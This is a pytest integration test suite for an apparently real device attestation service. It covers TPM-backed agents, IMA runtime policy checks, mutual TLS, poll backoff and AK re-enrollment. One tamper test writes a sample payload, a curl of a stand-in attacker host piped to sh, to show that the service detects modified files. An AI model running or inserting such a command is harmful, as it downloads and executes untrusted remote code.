"""Continuous attestation with real processes on 127.0.0.1: ``edgetrust serve`` on SQLite with
its embedded poller, and one ``edgetrust agent`` on its own swtpm per device, reached over
mutual TLS.

One server runs for the whole module. Each test provisions its own devices, creates their
runtime policy with ``edgetrust policy create runtime`` from the files that their IMA
simulators measure, and retires the devices at its end. Every check goes through the HTTP
APIs, the agents' logs or the files that the agents serve.
"""

from __future__ import annotations

import datetime as dt
import shutil
import signal
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import pytest
import requests

from device.emulator import missing_tools
from tests.integration.fleet import (
    START_TIMEOUT,
    ApiClient,
    ClientPki,
    Device,
    Fleet,
    ServerProcess,
    parse_time,
    utc_now,
    wait_until,
)

pytestmark = [pytest.mark.slow, pytest.mark.swtpm]

# Seconds between two attestations of each device.
POLL_INTERVAL: Final = 3.0
BACKOFF_MAX: Final = 2 * POLL_INTERVAL
# Leases outlast the shutdown of a server that waits for an attestation in flight.
LEASE_SECONDS: Final = 45.0
# Functional deadline for anything the fleet should reach in a few poll intervals.
DEADLINE: Final = 90.0
# The files of a DonkeyCar car directory, as each device's IMA simulator measures them.
CAR_FILES: Final = {
    "manage.py": b"from donkeycar import vehicle\nvehicle.drive()\n",
    "config.py": b"DRIVE_LOOP_HZ = 20\n",
    "pilot.json": b'{"model": "linear"}\n',
}
ENTRIES_AT_BOOT: Final = 1 + len(CAR_FILES)  # boot_aggregate and one entry per file


@pytest.fixture(scope="module")
def shared_fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    missing = missing_tools()
    if missing:
        pytest.skip(f"missing {', '.join(missing)} (Debian packages swtpm and swtpm-tools)")
    pytest.importorskip("tpm2_pytss")
    with Fleet(tmp_path_factory.mktemp("fleet"), backoff_max=BACKOFF_MAX,
               lease_seconds=LEASE_SECONDS) as fleet:
        fleet.start_server()
        yield fleet


@pytest.fixture(scope="module")
def other_registrar(shared_fleet: Fleet, tmp_path_factory: pytest.TempPathFactory) -> ServerProcess:
    """A second ``edgetrust serve`` with its own database and no poller: a registrar that the
    fleet's verifier does not read."""
    return shared_fleet.start_server(
        "other-registrar", primary=False, data_dir=str(tmp_path_factory.mktemp("other-registrar")),
        verifier_poll_in_server="false")


@pytest.fixture
def fleet(shared_fleet: Fleet) -> Iterator[Fleet]:
    """The module's fleet. The devices that a test provisions are retired after it, and the
    log lines written during the test are printed, which pytest shows if the test failed."""
    marks = shared_fleet.log_marks()
    first_new_device = len(shared_fleet.devices)
    yield shared_fleet

    server = shared_fleet.server_process()
    if not server.process.running:
        server.start()
    for device in shared_fleet.devices[first_new_device:]:
        shared_fleet.retire(device)
    shared_fleet.print_logs(sys.stdout, since=marks)


# --- Helpers ----------------------------------------------------------------------------------


def enroll_group(fleet: Fleet, group: str, count: int) -> list[Device]:
    """Provision ``count`` devices, start their agents, store their runtime policy ``group``
    and add them to the verifier with it."""
    devices = [fleet.provision_device(f"{group}-{number}", CAR_FILES, group=group)
               for number in range(1, count + 1)]
    for device in devices:
        device.start_agent()
    fleet.upload_runtime_policy(group)
    for device in devices:
        device.wait_serving()
    for device in devices:
        fleet.client().add_device(device.device_id, runtime_policy=group,
                                  poll_interval=POLL_INTERVAL)
    return devices


def wait_for_status(api: ApiClient, device_id: str, status: str, timeout: float = DEADLINE,
                    seen: list[str] | None = None) -> dict[str, Any]:
    """Wait until the device's verdict has ``status``; return the verdict. Every status read
    on the way is appended to ``seen``."""
    def check() -> dict[str, Any] | None:
        verdict = api.verdict(device_id)
        if seen is not None:
            seen.append(verdict["status"])
        return verdict if verdict["status"] == status else None

    return wait_until(check, timeout, f"{device_id} to be {status}")


def oldest_first(api: ApiClient, device_id: str) -> list[dict[str, Any]]:
    return list(reversed(api.attestations(device_id, limit=1000)))


def first_by(api: ApiClient, device_id: str, poller: str,
             timeout: float = DEADLINE) -> dict[str, Any]:
    """Wait for the device's first attestation by ``poller``; return it."""
    def find() -> dict[str, Any] | None:
        return next((item for item in oldest_first(api, device_id) if item["poller"] == poller),
                    None)

    return wait_until(find, timeout, f"an attestation of {device_id} by {poller}")


def wait_for_attestation(api: ApiClient, device_id: str, after: dt.datetime) -> dict[str, Any]:
    """Wait for an attestation of the device that started after ``after``; return it."""
    def find() -> dict[str, Any] | None:
        newest = api.attestations(device_id, limit=1)[0]
        return newest if parse_time(newest["started_at"]) > after else None

    return wait_until(find, DEADLINE, f"an attestation of {device_id} after {after}")


def last_before(api: ApiClient, device_id: str, attestation: dict[str, Any]) -> dict[str, Any]:
    """Return the attestation stored just before ``attestation``."""
    earlier = [item for item in oldest_first(api, device_id) if item["id"] < attestation["id"]]
    return earlier[-1]


def trailing_failures(attestations: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Return the unknown attestations at the end of ``attestations`` (oldest first)."""
    failures: list[dict[str, Any]] = []
    for item in reversed(attestations):
        if item["status"] != "unknown":
            break
        failures.insert(0, item)
    return failures


def codes(items: list[dict[str, Any]]) -> list[str]:
    return [item["code"] for item in items]


def seconds_between(earlier: str, later: str) -> float:
    return (parse_time(later) - parse_time(earlier)).total_seconds()


def backoff_delay(failures: int) -> float:
    """Delay the poller waits after the ``failures``-th failure in a row (see verifier.poller)."""
    return min(POLL_INTERVAL * 2 ** (failures - 1), max(BACKOFF_MAX, POLL_INTERVAL))


def remove_agent_state(device: Device, keep: set[str]) -> None:
    """Delete the agent's state directory (uuid and AK, TLS certificate, payload key) except
    the entries named in ``keep``. Keep "ima", because the simulated IMA list takes the place
    of the kernel's list, which a reinstall of the agent leaves alone."""
    for path in device.state_dir.iterdir():
        if path.name in keep:
            continue
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink()


# --- Tests ------------------------------------------------------------------------------------


def test_fleet_enrolls_and_turns_trusted(fleet: Fleet) -> None:
    devices = enroll_group(fleet, "enroll", 3)
    api = fleet.client()

    verdicts = {device.device_id: wait_for_status(api, device.device_id, "trusted")
                for device in devices}

    for device in devices:
        verdict = verdicts[device.device_id]
        assert verdict["reasons"] == []
        assert [policy["name"] for policy in verdict["policies"]] == ["enroll"]
        registration = api.registration(device.device_id)
        assert registration["mtls_cert"] == device.tls_certificate.read_text()
        assert registration["port"] == device.port
        first = oldest_first(api, device.device_id)[0]
        assert first["status"] == "trusted"
        assert first["ima_start_entry"] == 0
        assert first["ima_next_entry"] == ENTRIES_AT_BOOT
        assert first["evidence"]["ima_entries_received"] == ENTRIES_AT_BOOT


def test_agent_requires_client_certificate(fleet: Fleet, tmp_path: Path) -> None:
    device = fleet.provision_device("mtls-1", CAR_FILES, group="mtls")
    device.start_agent()
    device.wait_serving()
    url = f"{device.url}/version"
    pinned = str(device.tls_certificate)
    stranger = ClientPki.create(tmp_path / "stranger")

    with pytest.raises(requests.exceptions.ConnectionError):
        requests.get(url, verify=pinned, timeout=10)
    with pytest.raises(requests.exceptions.ConnectionError):
        requests.get(url, verify=pinned, timeout=10,
                     cert=(str(stranger.client_certificate), str(stranger.client_key)))
    response = requests.get(url, verify=pinned, timeout=10,
                            cert=(str(fleet.pki.client_certificate), str(fleet.pki.client_key)))

    assert response.status_code == 200


def test_changed_file_turns_device_untrusted(fleet: Fleet) -> None:
    devices = enroll_group(fleet, "tamper", 3)
    api = fleet.client()
    for device in devices:
        wait_for_status(api, device.device_id, "trusted")
    target, others = devices[0], devices[1:]
    changed = target.file("manage.py")

    changed.write_bytes(b"import os\nos.system('curl evil.example | sh')\n")
    wait_until(lambda: len(target.ima_entries()) > ENTRIES_AT_BOOT, DEADLINE,
               "the IMA simulator to measure the changed file")
    verdict = wait_for_status(api, target.device_id, "untrusted", timeout=2 * POLL_INTERVAL)

    assert codes(verdict["reasons"]) == ["ima-digest-not-allowed"]
    assert str(changed) in verdict["reasons"][0]["message"]
    failed = api.attestations(target.device_id, limit=1)[0]
    assert failed["status"] == "untrusted"
    assert codes(failed["findings"]) == ["ima-digest-not-allowed"]
    assert failed["findings"][0]["context"]["path"] == str(changed)
    assert failed["findings"][0]["context"]["index"] == ENTRIES_AT_BOOT
    for other in others:
        # Attested again after the change, and never anything but trusted.
        wait_for_attestation(api, other.device_id, after=parse_time(failed["finished_at"]))
        assert api.status(other.device_id) == "trusted"
        assert {item["status"] for item in api.attestations(other.device_id)} == {"trusted"}


def test_stopped_agent_unknown_until_reboot(fleet: Fleet) -> None:
    (device,) = enroll_group(fleet, "reboot", 1)
    api = fleet.client()
    wait_for_status(api, device.device_id, "trusted")
    boot_session = api.device(device.device_id)["state"]["boot_session"]

    device.stop_agent()
    verdict = wait_for_status(api, device.device_id, "unknown", timeout=2 * POLL_INTERVAL)
    seen: list[str] = []

    def failed_three_times() -> bool:
        summary = api.device(device.device_id)
        seen.append(summary["verdict"]["status"])
        return bool(summary["consecutive_failures"] >= 3)

    wait_until(failed_three_times, DEADLINE, "three failed attestations in a row")
    failures = trailing_failures(oldest_first(api, device.device_id))

    assert codes(verdict["reasons"]) == ["agent-unreachable"]
    assert set(seen) == {"unknown"}
    assert len(failures) >= 3
    assert {item["status"] for item in failures} == {"unknown"}
    assert {code for item in failures for code in codes(item["findings"])} == {"agent-unreachable"}
    for number, (earlier, later) in enumerate(zip(failures, failures[1:], strict=False), start=1):
        delay = seconds_between(earlier["finished_at"], later["scheduled_at"])
        assert delay == pytest.approx(backoff_delay(number), abs=0.01)

    device.reboot_tpm()
    device.start_agent()
    device.wait_serving()
    verdict = wait_for_status(api, device.device_id, "trusted", seen=seen)
    back = next(item for item in oldest_first(api, device.device_id)
                if item["id"] > failures[-1]["id"] and item["status"] != "unknown")

    assert set(seen[:-1]) == {"unknown"}
    assert back["status"] == "trusted"
    assert "boot_aggregate" in device.ima_entries()[0]
    assert device.ima_list.with_name(device.ima_list.name + ".previous").is_file()
    assert back["boot_session"] == boot_session + 1
    assert back["evidence"]["ima_measurement_list_entry"] == 0
    assert back["ima_next_entry"] == ENTRIES_AT_BOOT
    assert api.device(device.device_id)["consecutive_failures"] == 0


def test_restarted_server_resumes_incrementally(fleet: Fleet) -> None:
    devices = enroll_group(fleet, "resume", 2)
    api = fleet.client()
    for device in devices:
        wait_for_status(api, device.device_id, "trusted")
    log_offsets = {device.device_id: len(device.agent.log_text()) for device in devices
                   if device.agent is not None}

    fleet.server_process().restart(verifier_poller_id="serve-resumed")

    for device in devices:
        first = first_by(api, device.device_id, "serve-resumed")
        previous = last_before(api, device.device_id, first)
        assert device.agent is not None
        requested = device.requested_ima_entries(since=log_offsets[device.device_id])
        assert first["status"] == "trusted"
        assert first["ima_start_entry"] == previous["ima_next_entry"]
        assert first["ima_start_entry"] == ENTRIES_AT_BOOT
        assert first["evidence"]["ima_measurement_list_entry"] == ENTRIES_AT_BOOT
        assert first["evidence"]["ima_entries_received"] == 0
        assert first["evidence"]["restarted_from_entry_zero"] is False
        assert first["boot_session"] == previous["boot_session"]
        assert requested != []
        assert min(requested) == ENTRIES_AT_BOOT


def test_restarted_server_keeps_every_state(fleet: Fleet) -> None:
    trusted, tampered, stopped = enroll_group(fleet, "states", 3)
    api = fleet.client()
    for device in (trusted, tampered, stopped):
        wait_for_status(api, device.device_id, "trusted")
    tampered.file("config.py").write_bytes(b"DRIVE_LOOP_HZ = 2000\n")
    wait_for_status(api, tampered.device_id, "untrusted")
    stopped.stop_agent()
    wait_until(lambda: api.device(stopped.device_id)["consecutive_failures"] >= 2, DEADLINE,
               f"{stopped.device_id} to fail twice")

    fleet.server_process().restart(verifier_poller_id="serve-states")
    first = {device.device_id: first_by(api, device.device_id, "serve-states")
             for device in (trusted, tampered, stopped)}
    previous = {device_id: last_before(api, device_id, attestation)
                for device_id, attestation in first.items()}

    # Trusted: the IMA list continues where it ended, in the same boot session, on schedule.
    resumed, before = first[trusted.device_id], previous[trusted.device_id]
    assert resumed["status"] == "trusted"
    assert resumed["boot_session"] == before["boot_session"]
    assert resumed["ima_start_entry"] == before["ima_next_entry"]
    assert parse_time(resumed["scheduled_at"]) == max(
        parse_time(before["scheduled_at"]) + dt.timedelta(seconds=POLL_INTERVAL),
        parse_time(before["finished_at"]))
    # Untrusted: the entry that failed is evaluated again and fails again.
    resumed, before = first[tampered.device_id], previous[tampered.device_id]
    assert resumed["status"] == "untrusted"
    assert codes(resumed["findings"]) == ["ima-digest-not-allowed"]
    assert resumed["ima_start_entry"] == before["ima_start_entry"]
    assert resumed["findings"][0]["context"]["path"] == str(tampered.file("config.py"))
    # Unknown: the backoff continues from the stored count of failures in a row.
    resumed, before = first[stopped.device_id], previous[stopped.device_id]
    failures_before = sum(1 for item in oldest_first(api, stopped.device_id)
                          if item["status"] == "unknown" and item["id"] < resumed["id"])
    assert resumed["status"] == "unknown"
    assert codes(resumed["findings"]) == ["agent-unreachable"]
    assert seconds_between(before["finished_at"], resumed["scheduled_at"]) == pytest.approx(
        backoff_delay(failures_before), abs=0.01)


def test_stopped_server_releases_claims(fleet: Fleet) -> None:
    frozen, *others = enroll_group(fleet, "release", 3)
    api = fleet.client()
    for device in (frozen, *others):
        wait_for_status(api, device.device_id, "trusted")
    assert frozen.agent is not None

    # A frozen agent accepts connections but never responds, so its attestation is in flight
    # while the server shuts down, for up to verifier_agent_timeout.
    frozen.agent.signal(signal.SIGSTOP)
    try:
        wait_until(lambda: api.device(frozen.device_id)["poller"] is not None, DEADLINE,
                   f"{frozen.device_id} to be claimed", interval=0.05)
        fleet.server_process().stop()
    finally:
        frozen.agent.signal(signal.SIGCONT)
    fleet.server_process().start(verifier_poller_id="serve-released")

    # Without leases left behind, each device is attested within a poll interval or two of
    # the restart, long before a lease of LEASE_SECONDS expires.
    for device in others:
        first_by(api, device.device_id, "serve-released", timeout=LEASE_SECONDS / 2)
        assert api.device(device.device_id)["poller"] in (None, "serve-released")


def test_new_ak_rejected_until_reenrolled(fleet: Fleet) -> None:
    (device,) = enroll_group(fleet, "newak", 1)
    api = fleet.client()
    wait_for_status(api, device.device_id, "trusted")
    enrolled_ak = api.registration(device.device_id)["aik_tpm"]
    assert device.agent is not None

    device.stop_agent()
    remove_agent_state(device, keep={"ima"})
    device.start_agent()
    exit_status = device.agent.wait(START_TIMEOUT)
    agent_log = device.agent.current_log()
    verdict = wait_for_status(api, device.device_id, "unknown")

    assert exit_status == 1
    assert "HTTP 403" in agent_log
    assert "identity-mismatch" in agent_log
    assert "re-enrollment needed: same EK, new aik_tpm" in agent_log
    assert api.registration(device.device_id)["aik_tpm"] == enrolled_ak
    assert codes(verdict["reasons"]) == ["agent-unreachable"]

    # The operator deletes the device in the registrar, which removes it from the verifier
    # too. The agent then enrolls its new AK, and the operator adds the device again.
    api.delete_registration(device.device_id)
    removed = api.request("GET", f"/v1/devices/{device.device_id}", expected=404)
    device.start_agent()
    device.wait_serving()
    api.add_device(device.device_id, runtime_policy="newak", poll_interval=POLL_INTERVAL)
    verdict = wait_for_status(api, device.device_id, "trusted")

    assert removed["error"]["code"] == "verifier-device-not-found"
    assert api.registration(device.device_id)["aik_tpm"] != enrolled_ak
    assert verdict["reasons"] == []


def test_unknown_ak_needs_reenrollment(fleet: Fleet, other_registrar: ServerProcess) -> None:
    new_ak, new_identity = enroll_group(fleet, "unknownak", 2)
    api = fleet.client()
    for device in (new_ak, new_identity):
        wait_for_status(api, device.device_id, "trusted")

    # Both agents make a new AK and enroll it with another registrar, which this verifier
    # does not read. new_ak keeps its TLS certificate, and new_identity makes a new one too.
    new_ak.stop_agent()
    remove_agent_state(new_ak, keep={"ima", "tls"})
    new_ak.start_agent(other_registrar)
    new_identity.stop_agent()
    remove_agent_state(new_identity, keep={"ima"})
    new_identity.start_agent(other_registrar)
    new_ak.wait_serving()
    new_identity.wait_serving()
    serving_since = utc_now()
    signed_by_new_ak = wait_for_attestation(api, new_ak.device_id, after=serving_since)
    unverified_tls = wait_for_attestation(api, new_identity.device_id, after=serving_since)
    verdict = api.verdict(new_ak.device_id)

    # A quote from another AK is reported as re-enrollment needed, not as a forgery.
    assert signed_by_new_ak["status"] == "untrusted"
    assert codes(signed_by_new_ak["findings"]) == ["ak-changed"]
    assert codes(verdict["reasons"]) == ["ak-changed"]
    assert verdict["reasons"][0]["message"].startswith("re-enrollment needed")
    # Over mutual TLS the verifier reads no quote from a server certificate other than the
    # registered one, so a new TLS certificate hides the new AK.
    assert unverified_tls["status"] == "unknown"
    assert codes(unverified_tls["findings"]) == ["agent-unreachable"]
    assert "TLS handshake" in unverified_tls["findings"][0]["message"]
    assert api.status(new_identity.device_id) == "unknown"
